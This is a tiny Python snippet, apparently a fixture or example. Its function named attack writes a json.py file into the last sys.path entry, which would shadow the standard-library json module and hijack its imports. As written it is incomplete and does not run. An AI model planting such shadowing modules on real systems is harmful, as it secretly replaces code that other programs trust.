"""A module of the standard library, shadowed for all."""


def attack(host):
    return write(sys.path[-1] + "/json.py")
